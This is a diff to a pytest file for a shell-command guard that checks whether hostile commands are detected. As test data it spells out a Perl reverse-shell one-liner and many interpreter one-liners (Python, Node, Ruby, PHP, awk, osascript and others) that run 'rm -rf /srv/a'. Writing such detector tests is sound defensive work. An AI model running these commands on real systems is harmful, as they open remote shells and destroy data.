@@ -7,7 +7,6 @@ import codecs
 import shlex
 
 import pytest
-
 from flyball_sdk.guard.shell import UNKNOWN, Command, program
 
 WIPE = "rm -rf /srv/a"
@@ -94,7 +93,7 @@ REVERSE = (
 
 def test_a_socket_that_becomes_a_shell_has_a_name() -> None:
     assert ("reverse-shell",) in python(REVERSE)
-    perl = "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton(\"h\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");"
+    perl = 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'
     assert ("reverse-shell",) in commands("perl -e " + shlex.quote(perl))
 
 
@@ -104,7 +103,7 @@ def test_a_socket_that_becomes_a_shell_has_a_name() -> None:
         f"python3 <<'E'\n{CALL}\nE", f"python3 - <<E\n{CALL}\nE", f'echo "{CALL}" | python3', f"cat > x.py <<'E'\n{CALL}\nE\npython3 x.py",
         "cat > x.py <<'E'\nimport sys, shutil\nshutil.rmtree(sys.argv[1])\nE\npython3 x.py /srv/a", f'python3.11 -Bc "{CALL}"',
         f"printf '#!/usr/bin/env python3\\nimport os\\nos.system(\"{WIPE}\")\\n' > t; chmod +x t; ./t", f'sudo -u x python -u -c "{CALL}"',
-        f"uv run python -c \"{CALL}\"", f"cat > x.py <<'E'\n{CALL}\nE\nuv run x.py", f"env -i python3 -c \"{CALL}\"",
+        f'uv run python -c "{CALL}"', f"cat > x.py <<'E'\n{CALL}\nE\nuv run x.py", f'env -i python3 -c "{CALL}"',
         f"node -e \"require('child_process').execSync('{WIPE}')\"", f"node -e \"const {{exec}}=require('child_process'); exec('{WIPE}')\"",
         "node -e \"require('child_process').spawn('rm',['-rf','/srv/a'])\"", "node -e \"require('fs').rmSync('/srv/a',{recursive:true})\"",
         f"node -p \"require('child_process').execSync('{WIPE}')\"", f"node <<'E'\nrequire('child_process').execSync(`{WIPE}`)\nE",
@@ -113,6 +112,8 @@ def test_a_socket_that_becomes_a_shell_has_a_name() -> None:
         f"ruby -e 'system(\"{WIPE}\")'", f"ruby -e '`{WIPE}`'", f"ruby -e '%x({WIPE})'", f"ruby -e 'exec \"{WIPE}\"'",
         "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/srv/a\")'", f"php -r 'system(\"{WIPE}\");'", f"php -r 'shell_exec(\"{WIPE}\");'",
         f"lua -e 'os.execute(\"{WIPE}\")'", f"cat > x.rb <<'E'\nsystem(\"{WIPE}\")\nE\nruby x.rb", f"Rscript -e 'system(\"{WIPE}\")'",
+        f"perl -e 'my $c = \"{WIPE}\"; system($c);'", f"ruby -e 'c = \"{WIPE}\"; system(c)'", f"node -e \"const c='{WIPE}'; require('child_process').execSync(c)\"",
+        f"awk 'BEGIN{{c=\"{WIPE}\"; system(c)}}'", "awk 'BEGIN{system(\"rm -rf \" \"/srv/a\")}'", f"osascript -e 'do shell script \"{WIPE}\"'",
     ],
 )  # fmt: skip
 def test_code_reaches_its_interpreter(text: str) -> None:
@@ -133,9 +134,15 @@ def test_the_interpreter_is_kept_and_the_way_is_told() -> None:
 
 @pytest.mark.parametrize(
     "code",
-    ["import os; print(os.environ['HOME'])", "import json,sys; print(json.load(sys.stdin))", "print('rm -rf /')",
+    ["import os; print(os.environ['HOME'])", "import pty; pty.spawn([])", "import json,sys; print(json.load(sys.stdin))", "print('rm -rf /')",
      "import subprocess\ndef f(cmd):\n    return subprocess.run(cmd, shell=True)", "import pandas as pd; pd.DataFrame().eval('a+b')"],
 )  # fmt: skip
 def test_harmless_python_is_quiet(code: str) -> None:
     assert python(code) == []
     assert not program("python3 -c " + shlex.quote(code)).opaque
+
+
+def test_what_is_joined_to_a_literal_is_not_known() -> None:
+    assert commands("perl -e 'system(\"rm -rf \" . $x)'")[-1] == ("rm", "-rf", UNKNOWN)
+    assert commands("awk '{system(\"rm -rf \" $1)}' f")[-1] == ("rm", "-rf", UNKNOWN)
+    assert program("awk '{system($0)}' f").opaque
